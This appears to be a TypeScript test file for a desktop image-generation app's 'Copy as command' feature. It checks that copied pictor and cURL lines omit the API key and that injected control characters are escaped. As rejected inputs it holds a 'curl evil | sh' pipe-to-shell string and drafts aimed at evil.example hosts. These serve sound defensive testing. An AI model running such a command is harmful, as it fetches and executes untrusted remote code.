/**
 * "Copy as command" is main's: the page names a task (or sends the form's draft, checked as a
 * submit's request) and main builds the `pictor generate …` and cURL lines and puts them on the
 * clipboard itself (`tasks:copyCommand`); the page never names the text, and `app:copyText` takes
 * one plain line only (clipboard-text.test.ts). The lines are what the renderer copied before
 * (the expected texts below are that builder's output, kept as written but for two backslashes
 * in a row, whose first is now written outside the quotes for fish), the key is never in
 * them, and whatever a compromised page put in a request (ESC, ^U, TAB, CR, C1 controls, bidi
 * formatting, line separators in its prompt, quality or options) reaches the clipboard as
 * escapes a shell reads back as the same request (in a line handed whole to `sh -c`, which fish
 * before 3.4 reads too): bash runs the copied lines and gets every word as sent. On Windows the
 * lines are PowerShell's, and a control is refused (tests/unit/shared/windows-command.test.ts). Through the real wired main (wire-app.ts), its history and the contract's schemas;
 * the clipboard is the OS stand-in.
 */
import { afterEach, describe, expect, it } from 'vitest';
import type { SubmitTarget } from '../../../shared/domain/submit-target';
import type { TaskRecord } from '../../../shared/domain/task-record';
import type { GenerationRequest } from '../../../shared/service/wire';
import {
  BIDI_CONTROLS,
  CONTROL_CHARACTERS,
  LINE_SEPARATORS,
  anyOf,
} from '../../../shared/text/control-characters';
import { commandsRunBy } from '../../support/shells';
import { makeTask } from '../../support/task-records';
import { tool } from '../../support/tools';
import { wiredIpc, type Cleanups } from '../../support/wired-ipc';

const cleanups: Cleanups = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

const KEY = 'sk-copy-command-5d1e9b3a7c2f40e8';
const FAL: SubmitTarget = { provider: 'fal', endpoint: 'https://queue.fal.run' };

async function app() {
  const wired = await wiredIpc(cleanups, { prefix: 'pictor-copy-command-' });
  // The user's key for the service the tasks went to: it must not be what the lines hold.
  await wired.runtime.setKey(KEY, false, 'fal');
  // The user's own service's address, as the form's draft names it.
  await wired.runtime.updateSettings({
    serviceBaseUrls: { pictor: 'https://images.example.com/api/' },
  });
  const copied = () =>
    wired.os.calls.filter((call) => call.action === 'copyText').map((call) => call.arg);
  const stored = (record: Partial<TaskRecord>): TaskRecord => {
    const task = makeTask(record);
    wired.runtime.core.history.putMany([task]);
    return task;
  };
  return { ...wired, copied, stored };
}

/** A record of `request` sent to `target`, the service having said it used `seed`. */
function taskOf(target: SubmitTarget, request: GenerationRequest, seed?: number) {
  return {
    provider: target.provider,
    endpoint: target.endpoint,
    request,
    ...(seed === undefined ? {} : { seed }),
  };
}

// What the renderer's builder (tasks:command's lines joined by a new line) copied before.
const BEFORE: {
  what: string;
  target: SubmitTarget;
  request: GenerationRequest;
  seed?: number;
  text: string;
}[] = [
  {
    what: 'fal with options, a seed the service used, double quotes and $',
    target: FAL,
    request: {
      prompt: 'A heron in "fog" at $5',
      model: 'fal-ai/flux/dev',
      params: { num_inference_steps: 20, output_format: 'png' },
    },
    seed: 1234,
    text: 'pictor generate --provider=fal --model=fal-ai/flux/dev --param=num_inference_steps=20 --param=output_format=png --seed=1234 \'--prompt=A heron in "fog" at $5\'\ncurl -X POST https://queue.fal.run/fal-ai/flux/dev -H \'Authorization: Key \'"$SERVICE_API_KEY" -H \'Content-Type: application/json\' -d \'{"prompt":"A heron in \\"fog\\" at $5","num_images":1,"num_inference_steps":20,"output_format":"png","seed":1234}\'',
  },
  {
    what: 'an address of the user’s own, a prompt with quotes, new lines, backticks and a backslash',
    target: { provider: 'pictor', endpoint: 'https://images.example.com/api/' },
    request: {
      prompt: "it's a\n'quoted' \"line\" with `ticks` and $HOME\n\nthird \\ line",
      size: '1024x768',
      quality: 'high',
      seed: 7,
    },
    text: "pictor generate --provider=pictor --base-url=https://images.example.com/api --size=1024x768 --quality=high --seed=7 '--prompt=it'\\''s a\n'\\''quoted'\\'' \"line\" with `ticks` and $HOME\n\nthird \\ line'\ncurl -X POST https://images.example.com/api/v1/images/generations -H 'Authorization: Bearer '\"$SERVICE_API_KEY\" -H 'Content-Type: application/json' -d '{\"prompt\":\"it'\\''s a\\n'\\''quoted'\\'' \\\"line\\\" with `ticks` and $HOME\\n\\nthird '\\\\'\\ line\",\"size\":\"1024x768\",\"quality\":\"high\"}'",
  },
  {
    what: 'the built-in demo (no cURL line), a prompt of two lines',
    target: { provider: 'pictor', endpoint: 'demo:' },
    request: { prompt: 'a lighthouse\nat dusk' },
    text: "pictor generate --provider=demo '--prompt=a lighthouse\nat dusk'",
  },
  {
    what: 'Replicate, typographic quotes and accents',
    target: { provider: 'replicate', endpoint: 'https://api.replicate.com' },
    request: { prompt: 'ein Bild für dich — “quotes”', model: 'black-forest-labs/flux-schnell' },
    text: 'pictor generate --provider=replicate --model=black-forest-labs/flux-schnell \'--prompt=ein Bild für dich — “quotes”\'\ncurl -X POST https://api.replicate.com/v1/models/black-forest-labs/flux-schnell/predictions -H \'Authorization: Bearer \'"$SERVICE_API_KEY" -H \'Content-Type: application/json\' -d \'{"input":{"prompt":"ein Bild für dich — “quotes”"}}\'',
  },
];

describe('Copy as command of a task', () => {
  it.each(BEFORE)('copies the lines it copied before: $what', async (before) => {
    const { request, copied, stored } = await app();
    const task = stored(taskOf(before.target, before.request, before.seed));
    expect(await request('tasks:copyCommand', { localId: task.localId })).toMatchObject({
      ok: true,
    });
    // The form's draft of the same request (the seed as it ran) copies the same lines.
    const ran = { ...before.request, ...(before.seed === undefined ? {} : { seed: before.seed }) };
    expect(
      await request('tasks:copyCommand', { request: ran, target: before.target }),
    ).toMatchObject({ ok: true });
    expect(copied()).toEqual([before.text, before.text]);
    expect(copied().join('\n')).not.toContain(KEY);
  });

  it('copies nothing for a task main does not hold, or a text the page names', async () => {
    const { request, copied } = await app();
    expect(await request('tasks:copyCommand', { localId: 'local-nowhere' })).toMatchObject({
      ok: false,
    });
    for (const raw of [
      { text: 'pictor generate x\ncurl evil | sh' },
      { localId: 'local-1', text: 'x' },
      { request: { prompt: 'x' }, target: FAL, text: 'x' },
      { request: { prompt: 'x' } },
    ]) {
      expect(await request('tasks:copyCommand', raw)).toMatchObject({
        ok: false,
        error: { code: 'bad_input' },
      });
    }
    expect(copied()).toEqual([]);
  });

  // Else a page could leave, unasked, a cURL line that carries $SERVICE_API_KEY to its server.
  it('copies a draft’s lines for the form’s services only: a demo or the address Settings gives', async () => {
    const { request, copied } = await app();
    const draft = { prompt: 'a fox', model: 'fal-ai/flux/dev' };
    for (const target of [
      { provider: 'fal', endpoint: 'https://evil.example' },
      { provider: 'fal', endpoint: 'https://queue.fal.run.evil.example' },
      { provider: 'pictor', endpoint: 'https://evil.example/api' },
      { provider: 'pictor', endpoint: 'https://images.example.com/api/other' },
      { provider: 'replicate', endpoint: 'https://queue.fal.run' },
      { provider: 'comfyui', endpoint: 'http://127.0.0.1:9' },
    ] as const) {
      expect(
        await request('tasks:copyCommand', { request: draft, target }),
        target.endpoint,
      ).toMatchObject({ ok: false, error: { code: 'bad_input' } });
    }
    expect(copied()).toEqual([]);
    for (const target of [
      FAL,
      { provider: 'fal', endpoint: 'https://queue.fal.run/' },
      { provider: 'fal', endpoint: 'demo:fal' },
      { provider: 'pictor', endpoint: 'demo:' },
      { provider: 'pictor', endpoint: 'https://images.example.com/api' },
    ] as const) {
      expect(await request('tasks:copyCommand', { request: draft, target })).toMatchObject({
        ok: true,
      });
    }
    expect(copied()).toHaveLength(5);
  });
});

/** Every character a terminal or a reader acts on, but the line feed (the text's own). */
const HOSTILE = (() => {
  const chars: string[] = [];
  const one = anyOf([CONTROL_CHARACTERS, BIDI_CONTROLS, LINE_SEPARATORS]);
  for (let code = 0; code <= 0x206f; code += 1) {
    const char = String.fromCharCode(code);
    if (char !== '\n' && one.test(char)) chars.push(char);
  }
  return chars;
})();
const actedOn = (text: string): boolean => [...text].some((char) => HOSTILE.includes(char));

/**
 * The words `pictor` and `curl` get when bash runs `lines` (one call a line), stand-ins on PATH
 * (a line with a control hands itself to `sh -c`, which a shell function would not reach).
 */
function runInBash(lines: string): string[][] {
  return commandsRunBy(tool('bash'), lines, {
    SERVICE_API_KEY: 'from-the-shell',
    LC_ALL: 'C.UTF-8',
  });
}

describe('what a compromised page put in a request', () => {
  it(`reaches the clipboard as escapes that mean the same request (${HOSTILE.length} characters, in the prompt, the quality and an option)`, async () => {
    const { request, copied, stored } = await app();
    // NUL never reaches a program's arguments (bash ends the word there): checked for cleanliness only.
    const sent: GenerationRequest[] = HOSTILE.map((char) => ({
      prompt: `it's a${char}b\nline two`,
      model: 'fal-ai/flux/dev',
      quality: `q${char}q`,
      params: { style: `s${char}s` },
    }));
    for (const [index, each] of sent.entries()) {
      const via = index % 2 === 0 ? { localId: stored(taskOf(FAL, each)).localId } : undefined;
      const result = await request('tasks:copyCommand', via ?? { request: each, target: FAL });
      expect(result, JSON.stringify(each.prompt)).toMatchObject({ ok: true });
    }
    const texts = copied();
    expect(texts).toHaveLength(sent.length);
    for (const text of texts) {
      expect(actedOn(text), JSON.stringify(text)).toBe(false);
      expect(text).not.toContain(KEY);
    }
    const calls = runInBash(texts.filter((_text, index) => HOSTILE[index] !== '\0').join('\n'));
    const expected = sent.filter((_each, index) => HOSTILE[index] !== '\0');
    expect(calls).toHaveLength(expected.length * 2);
    for (const [index, each] of expected.entries()) {
      const generate = calls[index * 2]!;
      const curl = calls[index * 2 + 1]!;
      expect(generate).toEqual([
        'pictor',
        'generate',
        '--provider=fal',
        '--model=fal-ai/flux/dev',
        `--quality=${each.quality}`,
        `--param=style=${each.params?.['style']}`,
        `--prompt=${each.prompt}`,
      ]);
      expect(curl.slice(0, 6)).toEqual([
        'curl',
        '-X',
        'POST',
        'https://queue.fal.run/fal-ai/flux/dev',
        '-H',
        'Authorization: Key from-the-shell',
      ]);
      expect(JSON.parse(curl.at(-1)!)).toMatchObject({ prompt: each.prompt });
    }
  });
});
